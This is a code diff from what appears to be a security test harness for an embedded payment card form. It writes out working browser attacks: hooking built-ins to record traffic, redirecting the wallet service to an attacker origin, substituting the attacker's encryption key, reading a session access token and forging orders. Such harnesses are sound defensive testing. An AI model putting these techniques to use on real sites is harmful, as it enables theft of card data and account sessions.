@@ -9,86 +9,117 @@ export interface Attack {
   natives: readonly Native[];
   /** Origin of the attacker's server. */
   evil: string;
+  /** Its key, as a wallet service sends it. */
+  publicKey: string;
 }
 
 /**
- * Replaces the page's built-ins by ones that record what passes through them, and that replace the wallet service's
- * addresses by the attacker's wherever they find them.
+ * Replaces the page's built-ins by ones that record what passes through them. Wherever they find the wallet service's
+ * address or key, or the origins that the page trusts, they put in the attacker's.
  */
-export function replaceNatives({ natives: replaced, evil }: Attack): void {
+export async function replaceNatives({ natives: replaced, evil, publicKey }: Attack): Promise<void> {
   if (self !== top) return; // only a script of the page, not of its frames
   const page = window as unknown as Record<string, unknown> & { seenByPage?: string[] };
   const seen = (page.seenByPage ??= []);
-  const { stringify } = JSON;
-  const { fetch, Promise: OwnPromise, JSON: ownJson } = window;
+  const { parse, stringify } = JSON;
+  const { fetch, Promise: OwnPromise, JSON: ownJson, MessageChannel: OwnChannel } = window;
   const real = location.origin;
+  const { importKey } = SubtleCrypto.prototype;
+  const keyBytes = Uint8Array.from(atob(publicKey), (char) => char.charCodeAt(0));
+  const use = { name: "RSA-OAEP", hash: "SHA-256" };
+  const importTheirs = () =>
+    Reflect.apply(importKey, crypto.subtle, ["spki", keyBytes, use, true, ["encrypt"]]) as Promise<CryptoKey>;
+  let theirKey: CryptoKey | undefined;
+  const isImported = importTheirs().then((key) => (theirKey = key));
+  const isPlain = (value: unknown): value is Record<string, unknown> => {
+    if (typeof value !== "object" || value === null) return false;
+    const prototype: unknown = Object.getPrototypeOf(value);
+    return Array.isArray(value) || prototype === Object.prototype || prototype === null;
+  };
   const note = <Value>(value: Value): Value => {
     try {
-      seen.push(typeof value === "string" ? value : (stringify(value) ?? ""));
+      if (typeof value === "string") seen.push(value);
+      else if (isPlain(value)) seen.push(stringify(value));
     } catch {
       // Not plain data.
     }
     return value;
   };
 
-  /** In place: the wallet service of a configuration, and its trusted origins. */
+  // What the page says it trusts. Its options are fixed when it starts.
+  const isFirst = !(Symbol.for("tv-selfcare.page") in window);
+  let api = (window as unknown as { TvSelfcare?: { config?: { origins?: string[] } } }).TvSelfcare;
+  if (isFirst)
+    Object.defineProperty(window, "TvSelfcare", {
+      configurable: true,
+      get: () => api,
+      set(given: typeof api) {
+        api = given;
+        if (given?.config) given.config.origins = [...(given.config.origins ?? []), evil];
+      },
+    });
+
+  /** In place: the wallet service of a configuration, its trusted origins, and the wallet's key. */
   function rewrite<Value>(value: Value, depth = 0): Value {
-    if (typeof value !== "object" || value === null || depth > 6) return value;
-    const found = value as Record<string, unknown>;
+    if (!isPlain(value) || depth > 6) return value;
+    const found: Record<string, unknown> = value;
     try {
-      if (found["msName"] === "wallet") found["msBaseUrl"] = `${evil}/api/wallet`;
-      if (Array.isArray(found["api"])) found["api"] = [];
+      // Later, the page would refuse its own calls, so it would not save a card.
+      if (isFirst && found["msName"] === "wallet") found["msBaseUrl"] = `${evil}/api/wallet`;
+      if (isFirst && Array.isArray(found["api"])) found["api"] = [];
+      if (typeof found["publicKey"] === "string") found["publicKey"] = publicKey;
       for (const one of Object.values(found)) rewrite(one, depth + 1);
     } catch {
-      // Frozen, or not plain data.
+      // Frozen.
     }
     return value;
   }
+  const rewriteText = (text: string): string => {
+    try {
+      return stringify(rewrite(parse(text) as unknown));
+    } catch {
+      return text; // not JSON
+    }
+  };
   /** The same in a request to the card form, and in everything else that it might read. */
   function rewriteMessage(message: unknown): unknown {
     const { order } = Object(message) as { order?: Record<string, unknown> };
     if (!order) return message;
     rewrite(order);
+    for (const service of (order["configuration"] as { microservices?: object[] })?.microservices ?? [])
+      Object.assign(service, { msBaseUrl: `${evil}/api/wallet` });
     if ("options" in order) order["options"] = { configUrl: `${evil}/config`, origins: [evil] };
-    for (const name of Object.keys(order)) {
+    for (const [name, value] of Object.entries(order)) {
       if (/url|address$|origin/i.test(name)) order[name] = `${evil}/api/wallet`;
+      if (value instanceof CryptoKey) order[name] = theirKey;
     }
     return message;
   }
-
-  // What the page says it trusts.
-  let api = (window as unknown as { TvSelfcare?: { config?: { origins?: string[] } } }).TvSelfcare;
-  Object.defineProperty(window, "TvSelfcare", {
-    configurable: true,
-    get: () => api,
-    set(given: typeof api) {
-      api = given;
-      if (given?.config) given.config.origins = [...(given.config.origins ?? []), evil];
-    },
-  });
+  /** The page's own calls go where they should, so that the change is not noticed. */
+  function sendHome(): void {
+    window.fetch = new Proxy(fetch, {
+      apply: (target, self, [input, options]: [RequestInfo | URL, RequestInit?]) =>
+        Reflect.apply(target, self, [
+          String(input instanceof Request ? input.url : input).replace(evil, real),
+          options,
+        ]),
+    });
+  }
 
   const replacements: Record<Native, () => void> = {
     postMessage() {
       const { postMessage } = MessagePort.prototype;
+      const heard = new WeakSet<MessagePort>();
       MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
+        if (!heard.has(this)) this.addEventListener("message", ({ data }) => note(data));
+        heard.add(this);
         return Reflect.apply(postMessage, this, [note(rewriteMessage(message)), ...more]);
       };
-      const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage") ?? {};
-      Object.defineProperty(MessagePort.prototype, "onmessage", {
-        configurable: true,
-        set(listener: (event: MessageEvent) => void) {
-          set?.call(this, (event: MessageEvent) => {
-            note(event.data);
-            listener(event);
-          });
-        },
-      });
     },
     MessageChannel() {
-      const Own = window.MessageChannel;
       page["MessageChannel"] = function Channel() {
-        const { port1, port2 } = new Own();
-        const theirs = new Own();
+        const { port1, port2 } = new OwnChannel();
+        const theirs = new OwnChannel();
         const outer = theirs.port1;
         theirs.port2.onmessage = ({ data }) => port1.postMessage(note(rewriteMessage(data)));
         port1.onmessage = ({ data }) => theirs.port2.postMessage(note(data));
@@ -96,48 +127,96 @@ export function replaceNatives({ natives: replaced, evil }: Attack): void {
       };
     },
     fetch() {
-      // The page's own calls go where they should, so that the change is not noticed.
-      window.fetch = new Proxy(fetch, {
-        async apply(target, self, [input, options]: [RequestInfo | URL, RequestInit?]) {
-          const url = String(input instanceof Request ? input.url : input);
-          note([url, options?.body]);
-          const answer = (await Reflect.apply(target, self, [url.replace(evil, real), options])) as Response;
-          if (!/\/config\b/.test(url)) return answer;
-          const text = stringify(rewrite(await answer.json()));
-          return new Response(text, { status: answer.status, headers: answer.headers });
+      sendHome();
+      const home = window.fetch;
+      window.fetch = new Proxy(home, {
+        apply(target, self, [input, options]: [RequestInfo | URL, RequestInit?]) {
+          note(options?.body);
+          return Reflect.apply(target, self, [input, options]);
         },
       });
+      const { text } = Response.prototype;
+      Response.prototype.text = async function () {
+        return rewriteText((await Reflect.apply(text, this, [])) as string);
+      };
     },
     JSON() {
       page["JSON"] = {
-        parse: (text: string) => rewrite(ownJson.parse(text) as unknown),
+        parse: (from: string) => rewrite(ownJson.parse(from) as unknown),
         stringify: (...all: Parameters<typeof stringify>) => note(stringify(...all)),
       };
-      replacements.fetch();
+      sendHome();
     },
     Promise() {
-      page["Promise"] = class extends OwnPromise<unknown> {
-        constructor(run: ConstructorParameters<typeof OwnPromise<unknown>>[0]) {
-          super((resolve, reject) => run((value) => resolve(note(rewrite(value))), reject));
-        }
+      const { then } = OwnPromise.prototype;
+      /** Not the built-in one, so each `await` calls `then`. */
+      const Other = Object.assign(function Promise() {}, { [Symbol.species]: OwnPromise });
+      Object.defineProperty(OwnPromise.prototype, "constructor", { value: Other });
+      OwnPromise.prototype.then = function (onValue: unknown, ...more: unknown[]) {
+        const onTheirs =
+          typeof onValue === "function"
+            ? (value: unknown) => onValue(note(rewrite(value))) as unknown
+            : onValue;
+        return Reflect.apply(then, this, [onTheirs, ...more]) as never;
       };
-      replacements.fetch();
+      sendHome();
     },
     crypto() {
-      for (const name of ["encrypt", "importKey", "digest", "wrapKey"] as const) {
+      for (const name of ["encrypt", "digest", "wrapKey"] as const) {
         const own = SubtleCrypto.prototype[name];
         Object.defineProperty(SubtleCrypto.prototype, name, {
           value(...all: unknown[]) {
-            for (const one of all) {
-              note(ArrayBuffer.isView(one) ? new TextDecoder().decode(one as Uint8Array) : one);
-            }
+            for (const one of all) note(ArrayBuffer.isView(one) ? new TextDecoder().decode(one) : one);
             return Reflect.apply(own, this, all) as unknown;
           },
         });
       }
+      Object.defineProperty(SubtleCrypto.prototype, "importKey", {
+        value: (...all: unknown[]) =>
+          (Object(all[2]) as { name?: string }).name === use.name
+            ? importTheirs()
+            : (Reflect.apply(importKey, crypto.subtle, all) as unknown),
+      });
     },
   };
   for (const name of replaced) replacements[name]();
+  await isImported;
+}
+
+/** Opens a channel of its own to the card form, gives it an order, and records the answers. */
+export function orderByOwnChannel(order: object): void {
+  const find = (root: ParentNode): HTMLIFrameElement | undefined => {
+    for (const node of root.querySelectorAll("*")) {
+      if (node instanceof HTMLIFrameElement && node.src.includes("card-frame")) return node;
+      const found = node.shadowRoot && find(node.shadowRoot);
+      if (found) return found;
+    }
+    return undefined;
+  };
+  const seenByPage: string[] = [];
+  Object.assign(window, { seenByPage });
+  const { accessToken } = JSON.parse(sessionStorage.getItem("tv:login") ?? "{}") as { accessToken?: string };
+  const { port1, port2 } = new MessageChannel();
+  port1.onmessage = ({ data }) => seenByPage.push(JSON.stringify(data));
+  find(document)?.contentWindow?.postMessage("tv-card-frame", "*", [port2]);
+  port1.postMessage({ type: "send", order: { ...order, accessToken } });
+}
+
+/** An order that the page hasn't given, with addresses for a card form that would read them from it. */
+export function forgedOrder(evil: string): object {
+  const address = { line1: "1 Elm", line2: "", city: "Boise", state: "ID", zip: "83702", country: "US" };
+  const person = { personId: "p-1002", customerRelationshipId: "cr-2002" };
+  const card = { ...person, firstName: "Nico", lastName: "Newman", token: "", address };
+  const made = { accessToken: "made-up", idempotencyKey: "made-up", language: "en", deadlineMs: 9_000 };
+  const operations = [
+    { opName: "getPublicKey", httpMethod: "GET", apiPath: "/public-key" },
+    { opName: "addWallet", httpMethod: "POST", apiPath: "/cards" },
+  ];
+  const wallet = { msName: "wallet", msBaseUrl: `${evil}/api/wallet`, operations };
+  const wire = { headers: {}, services: {} };
+  const configuration = { microservices: [wallet], origins: { api: [], sandbox: [] }, wire };
+  const options = { configUrl: `${evil}/config`, origins: [evil] };
+  return { id: "made-up", headers: {}, ...made, card, configuration, options };
 }
 
 /** Makes the page send each message to the card form three times, and the order once more after each answer. */
@@ -187,18 +266,14 @@ export function listen(): void {
 }
 
 /** Makes the page send an order, and an unrequested token, before the form is drawn. */
-export function reorderMessages(): void {
+export function reorderMessages(order: object): void {
+  if (self !== top) return;
   const { postMessage } = MessagePort.prototype;
   let isFirst = true;
   MessagePort.prototype.postMessage = function (message: unknown, ...more: unknown[]) {
     const { type } = Object(message) as { type?: string };
     if (type === "draw" && isFirst) {
       isFirst = false;
-      const address = { line1: "1 Elm", line2: "", city: "Boise", state: "ID", zip: "83702", country: "US" };
-      const person = { personId: "p-1002", customerRelationshipId: "cr-2002" };
-      const card = { ...person, firstName: "Nico", lastName: "Newman", token: "", address };
-      const made = { accessToken: "made-up", idempotencyKey: "made-up", language: "en", deadlineMs: 9_000 };
-      const order = { id: "made-up", headers: {}, ...made, card };
       Reflect.apply(postMessage, this, [{ type: "send", order }]);
       Reflect.apply(postMessage, this, [{ type: "token", id: "made-up", accessToken: "made-up" }]);
     }
@@ -236,8 +311,11 @@ export const imitation = `<!doctype html><title>Imitation</title><script>
 </script>`;
 
 /** A page that frames the card form's document itself. */
-export const foreignParent = (frame: string): string => `<!doctype html><title>Foreign</title>
-<iframe sandbox="allow-scripts" src="${frame}" width="400" height="300"></iframe><script>
+export const foreignParent = (
+  frame: string,
+  sandbox = 'sandbox="allow-scripts"',
+): string => `<!doctype html><title>Foreign</title>
+<iframe ${sandbox} src="${frame}" width="400" height="300"></iframe><script>
   onload = () => {
     const { port1, port2 } = new MessageChannel();
     document.querySelector("iframe").contentWindow.postMessage("tv-card-frame", "*", [port2]);
